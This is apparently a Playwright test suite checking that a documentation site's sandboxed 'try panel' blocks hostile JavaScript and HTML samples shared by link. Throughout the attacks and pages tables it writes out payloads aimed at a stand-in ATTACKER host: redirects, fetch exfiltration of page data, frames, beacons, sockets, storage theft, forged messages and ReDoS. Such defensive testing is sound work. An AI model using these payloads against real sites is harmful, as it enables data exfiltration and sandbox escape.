import { existsSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import { deflateRawSync } from "node:zlib";
import type { BrowserContext, Page } from "@playwright/test";
import { browserArguments } from "@proofsheet/browser/find-browser";
import { plain, sink } from "./site.ts";
import { test as base, expect, hydrate } from "./test.ts";
import { idOf, TryPanel } from "./try-panel.ts";

/** A whole browser: the headless shell of other tests connects to no host ahead of a navigation. */
const wholeBrowser = ["chromium", "chromium-browser", "google-chrome-stable", "google-chrome"]
  .flatMap((name) =>
    (process.env.PATH ?? "").split(path.delimiter).map((at) => path.join(at, name)),
  )
  .find((file) => existsSync(file));

/** Whatever the sample does, the console may say that it was stopped; the host's own count decides. */
const test = base.extend({
  expectedNoise:
    /^(?:console|uncaught|request to (?:http|ws):\/\/(?:127\.0\.0\.1|localhost|attacker))/,
});
test.skip(!wholeBrowser, "no whole Chromium or Chrome is installed beside the headless shell");
test.use({
  launchOptions: { executablePath: wholeBrowser ?? "", args: browserArguments },
});

/** A host that counts everything that reaches it, connections without a request included. */
class Attacker {
  readonly #server = createServer();
  /** Beside it, because a browser may use a connection again that it has opened ahead. */
  readonly #control = createServer((_, response) => response.end("<!doctype html><p>Here"));
  #reached = 0;

  async start() {
    this.#server.on("connection", () => {
      this.#reached += 1;
    });
    for (const one of [this.#server, this.#control])
      await new Promise<void>((resolve) => one.listen(0, "127.0.0.1", resolve));
    return this;
  }
  get origin() {
    return originOf(this.#server);
  }
  /** How often it was reached before a page of the same browser came to the host beside it, which must arrive. */
  async reachedBefore(context: BrowserContext): Promise<number> {
    const page = await context.newPage();
    await page.goto(originOf(this.#control));
    await expect(page.getByText("Here")).toBeVisible();
    await page.close();
    return this.#reached;
  }
  async stop() {
    for (const one of [this.#server, this.#control]) {
      one.closeAllConnections();
      await new Promise((resolve) => one.close(resolve));
    }
  }
}

function originOf(server: Server): string {
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

interface Attack {
  code: string;
  /** What the panel says of it, if anything. */
  says?: RegExp;
}

/** What a stranger might put into a link, by what it tries; ATTACKER becomes the address of the stranger's host. */
const attacks: Record<string, Record<string, Attack>> = {
  "what never ends": {
    "an endless loop": { code: "while (true);", says: /at line 1: A loop/ },
    "an endless loop that catches": {
      code: "for (;;) { try { for (;;); } catch {} }",
      says: /A loop/,
    },
    "an endless loop of awaits": { code: "while (true) await null;", says: /loop/i },
    "endless microtasks": {
      code: "const again = () => Promise.resolve().then(again); again();",
      says: /never ends, or needs more memory/i,
    },
    "an expression that never ends": {
      code: 'const slow = new RegExp("^(a+)+$"); slow.test("a".repeat(60) + "b");',
      says: /never ends, or needs more memory/i,
    },
  },
  "what floods": {
    "a flood of output": {
      code: 'for (let n = 0; n < 1e9; n++) console.log("x".repeat(100));',
      says: /far too much|loop/i,
    },
    "a flood of messages": {
      code: "setInterval(() => { for (let n = 0; n < 400; n++) console.warn(n); }, 0);",
      says: /far too much/i,
    },
    dialogs: {
      code: 'alert("a"); confirm("b"); prompt("c"); print();',
      says: /alert: a \(dialogs do not open here\)/,
    },
    "markup in what it prints": {
      code: 'console.log("<img src=ATTACKER onerror=alert(1)>"); const x = "<b>"; x; // → "<i>"',
      says: /<img src=/,
    },
  },
  "what leaves by an address": {
    "the window's location": { code: 'window.location = "ATTACKER/x";', says: /was stopped/ },
    "a bare location": { code: 'location = "ATTACKER/x";', says: /was stopped/ },
    href: { code: 'location.href = "ATTACKER/x";', says: /was stopped/ },
    assign: { code: 'document.location.assign("ATTACKER/x");', says: /was stopped/ },
    "a name that is computed": { code: 'window["loc" + "ation"] = "ATTACKER/x";', says: /Not run/ },
    "a window of another name": {
      code: 'const w = window; w.location = "ATTACKER/x";',
      says: /Not run/,
    },
    "a location of another name": {
      code: 'const { location: l } = window; l.href = "ATTACKER/x";',
      says: /Not run: "window"/,
    },
    reflection: { code: 'Reflect.get(window, "location").href = "ATTACKER/x";', says: /Not run/ },
    "an element's document": {
      code: 'document.body.ownerDocument.location = "ATTACKER/x";',
      says: /Not run: "location"/,
    },
    "the document's window": {
      code: 'document.defaultView.location = "ATTACKER/x";',
      says: /Not run/,
    },
    "the top": { code: 'try { top.location = "ATTACKER/x"; } catch {}', says: /Not run/ },
    navigation: { code: 'navigation.navigate("ATTACKER/x");', says: /was stopped/ },
  },
  "what leaves by an element": {
    "a link beside the page": {
      code: 'const a = document.createElement("a"); a.href = "ATTACKER/x"; a.click();',
    },
    "a link whose click nobody hears": {
      code: 'const a = document.createElement("a"); a.href = "ATTACKER/x"; document.body.append(a); addEventListener("click", (event) => event.stopImmediatePropagation(), true); a.addEventListener("click", (event) => event.stopPropagation()); a.click();',
    },
    "a link by an event": {
      code: 'const a = document.createElement("a"); a.href = "ATTACKER/x"; a.dispatchEvent(new MouseEvent("click"));',
    },
    "a link in a closed shadow": {
      code: 'const r = document.body.appendChild(document.createElement("p")).attachShadow({ mode: "closed" }); r.innerHTML = \'<a href="ATTACKER/x">x</a>\'; const a = r.firstChild; a.addEventListener("click", (event) => event.stopPropagation()); a.click();',
    },
    "a link at the top": {
      code: 'const a = document.createElement("a"); a.href = "ATTACKER"; a.target = "_top"; document.body.append(a); a.click();',
    },
    "a download": {
      code: 'const a = document.createElement("a"); a.href = "ATTACKER/x"; a.download = "y"; document.body.append(a); a.click();',
      says: /A download was stopped: y/,
    },
    "a form that is sent": {
      code: 'document.body.innerHTML = "<form action=ATTACKER target=_top><input name=a value=b></form>"; document.forms[0].submit();',
    },
    "a form whose sending nobody hears": {
      code: 'document.body.innerHTML = "<form method=post><button formaction=ATTACKER/x formtarget=_self>x</button></form>"; document.forms[0].addEventListener("submit", (event) => event.stopImmediatePropagation()); document.querySelector("button").click();',
    },
    "a window": {
      code: 'open("ATTACKER"); window.open("ATTACKER", "_blank");',
      says: /was not opened/,
    },
    "a refresh in markup": {
      code: 'document.head.innerHTML = \'<meta http-equiv="refresh" content="0;url=ATTACKER">\';',
      says: /Not run/,
    },
    "a refresh by script": {
      code: 'const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=ATTACKER"; document.head.append(m);',
      says: /Not run: "meta"/,
    },
    "a frame": {
      code: 'const f = document.createElement("iframe"); f.src = "ATTACKER/x"; document.body.append(f);',
      says: /Not run: "iframe"/,
    },
    "a frame in a frame": {
      code: "document.body.innerHTML = \"<iframe credentialless srcdoc='<iframe src=ATTACKER/x></iframe>'></iframe>\";",
      says: /Not run/,
    },
  },
  "what sends requests to a stranger's host": {
    "a request": {
      code: 'fetch("ATTACKER/?" + document.title).catch((error) => console.log(error.message));',
      says: /Failed to fetch/,
    },
    "pictures, styles, fonts and scripts": {
      code: 'document.body.innerHTML = \'<img src="ATTACKER/1"><link rel=stylesheet href="ATTACKER/2"><style>@font-face{font-family:x;src:url(ATTACKER/3)}b{font-family:x;background:url(ATTACKER/4)}</style><b>b</b><video src="ATTACKER/5"></video>\'; const s = document.createElement("script"); s.src = "ATTACKER/8"; document.head.append(s); import("ATTACKER/9").catch(() => {});',
      says: /A picture \(http.*\) was stopped/,
    },
    "sockets, beacons and event streams": {
      code: 'navigator.sendBeacon("ATTACKER/1"); for (const make of [() => new WebSocket("ATTACKER".replace("http", "ws")), () => new EventSource("ATTACKER"), () => new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:9" }] })]) try { make(); } catch (error) { console.log("no", error.name); }',
    },
    "hints to the browser": {
      code: 'for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "manifest", "icon"]) document.head.append(Object.assign(document.createElement("link"), { rel, as: "image", href: "ATTACKER/x" }));',
    },
  },
  "what reads the site": {
    "the storage of the site": {
      code: 'localStorage.slash = "stolen"; document.cookie = "a=b"; try { indexedDB.open("x"); } catch {} parent.postMessage("stolen", "*"); console.log(localStorage.slash);',
      says: /nothing is kept/,
    },
    "messages in the frame's own name": {
      code: 'parent.postMessage({ kind: "print", level: "log", text: "forged" }, "*"); top.postMessage({ kind: "key", key: "escape" }, "*"); MessagePort.prototype.postMessage = () => {}; console.log("still heard");',
      says: /still heard/,
    },
  },
};

/** What a stranger might put into a page's markup. */
const pages: Record<string, Attack> = {
  "a refresh": { code: '<META HTTP-EQUIV="ReFresh" CONTENT="0;URL=ATTACKER/x"><p>Hi</p>' },
  "frames, objects and a base": {
    code: '<base href="ATTACKER"><iframe src="ATTACKER/1"></iframe><iframe srcdoc="<meta http-equiv=refresh content=0;url=ATTACKER/2>"></iframe><object data="ATTACKER/3"></object><embed src="ATTACKER/4">',
    says: /The page ATTACKER\/1 was left out/,
  },
  "a frame in a template": {
    code: '<template><iframe src="ATTACKER/x"></iframe></template><p>Hi</p><script>document.querySelector("p").append(document.querySelector("template").content.cloneNode(true));</script>',
  },
  hints: {
    code: '<link rel=preconnect href="ATTACKER"><link rel=dns-prefetch href="ATTACKER"><link rel=prefetch href="ATTACKER/x">',
  },
  "a handler": {
    code: "<body onload=\"const w = window; w.location = 'ATTACKER/x'\">",
    says: /Not run: "window"/,
  },
  "the window as this": {
    code: "<p>Hi</p><script>\nthis['loc' + 'ation'] = 'ATTACKER/x';</script>",
    says: /at line 2: Not run: "this"/,
  },
  "a script that is no module": {
    code: "<script>var a = 010; (function () { return this; })().location = 'ATTACKER/x';</script>",
    says: /Not run/,
  },
};

for (const [kind, group] of Object.entries(attacks))
  test(`attacks from a link: ${kind}`, async ({ page, context }) => {
    await attack(page, context, group, {
      route: plain.href,
      card: idOf("Change a value"),
      file: "sample.js",
    });
  });

test("attacks from a link: what is in markup", async ({ page, context }) => {
  const card = idOf("A fragment of HTML", sink);
  await attack(page, context, pages, { route: sink.href, card, file: "index.html" });
});

/** The card whose code a link replaces. */
interface Target {
  route: string;
  card: string;
  file: string;
}

/** Opens each attack by a link, runs it, and asserts that it reached, opened and changed nothing. */
async function attack(
  page: Page,
  context: BrowserContext,
  group: Record<string, Attack>,
  target: Target,
) {
  const opened: string[] = [];
  page.on("framenavigated", (frame) => opened.push(frame.url()));
  page.on("dialog", (dialog) => {
    opened.push(`dialog ${dialog.message()}`);
    return dialog.dismiss();
  });
  await page.goto(target.route);
  await hydrate(page);
  const stored = () => page.evaluate(() => [Object.keys(localStorage), document.cookie]);
  const before = await stored();
  const panel = new TryPanel(page);
  for (const [name, { code, says }] of Object.entries(group))
    await test.step(name, async () => {
      // A new one each time: a connection that is open already would be used again, and not be seen.
      const attacker = await new Attacker().start();
      const link = linkTo(target, code.replaceAll("ATTACKER", attacker.origin));
      await page.goto(link);
      await expect(panel.warning).toContainText("came with a link");
      await expect(panel.editor).toBeVisible();
      await panel.button("Run").click();
      await expect(panel.status).toHaveText(/^(?:Done|Stopped)/, { timeout: 30_000 });
      const words = new RegExp(
        (says?.source ?? "").replaceAll("ATTACKER", attacker.origin),
        says?.flags,
      );
      await expect(panel.dialog).toContainText(words, { timeout: 30_000 });
      expect(await attacker.reachedBefore(context)).toBe(0);
      expect(new URL(page.url()).hash).toBe(new URL(link, page.url()).hash);
      expect(opened.filter((one) => one.startsWith(attacker.origin))).toEqual([]);
      await panel.close();
      await expect(page.locator("h1")).toBeVisible();
      await attacker.stop();
    });
  expect(context.pages()).toHaveLength(1);
  expect(opened.filter((one) => one.startsWith("dialog"))).toEqual([]);
  expect(await stored()).toEqual(before);
}

test("each way to read the page around a sample is rejected", async ({ page }) => {
  const panel = await runShared(
    page,
    `const ways = {
  title: () => parent.document.title,
  topTitle: () => top.document.title,
  storage: () => parent.parent.localStorage.length,
  frame: () => frameElement.id,
};
for (const [name, read] of Object.entries(ways))
  try { read(); console.log(name, "was read"); } catch (error) { console.log(name, error.name); }`,
  );
  await expect(panel.log.locator("> *")).toHaveText([
    "title SecurityError",
    "topTitle SecurityError",
    "storage SecurityError",
    "frame TypeError",
  ]);
});

test("a known limit: a frame whose name is computed connects to a host before the policy stops it", async ({
  page,
  context,
}) => {
  // It also shows that this browser connects ahead, so that the attacks above are worth their name.
  const attacker = await new Attacker().start();
  await runShared(
    page,
    `const frame = document.createElement("ifr" + "ame"); frame.src = "${attacker.origin}/x"; document.body.append(frame);`,
  );
  expect(await attacker.reachedBefore(context)).toBe(1);
  await attacker.stop();
});

test("a shared sample does nothing before Run is pressed", async ({ page, context }) => {
  const attacker = await new Attacker().start();
  const code = attacks["what sends requests to a stranger's host"]?.["a request"]?.code ?? "";
  await page.goto(linkTo(valueCard, code.replaceAll("ATTACKER", attacker.origin)));
  const panel = new TryPanel(page);
  await expect(panel.editor).toBeVisible();
  expect(await attacker.reachedBefore(context)).toBe(0);
  expect(page.frames()).toHaveLength(1);
  await expect(panel.log).toBeHidden();
  await panel.button("Run").click();
  await expect(panel.log).toContainText("Failed to fetch");
  await attacker.stop();
});

const valueCard: Target = { route: plain.href, card: idOf("Change a value"), file: "sample.js" };

async function runShared(page: Page, code: string): Promise<TryPanel> {
  await page.goto(linkTo(valueCard, code));
  const panel = new TryPanel(page);
  await expect(panel.editor).toBeVisible();
  await panel.button("Run").click();
  await expect(panel.status).toHaveText(/^Done/);
  return panel;
}

/** Makes a link as the panel does. */
function linkTo({ route, card, file }: Target, code: string): string {
  const packed = deflateRawSync(JSON.stringify([1, { [file]: code }])).toString("base64url");
  return `${route}#${card}~try=${packed}`;
}
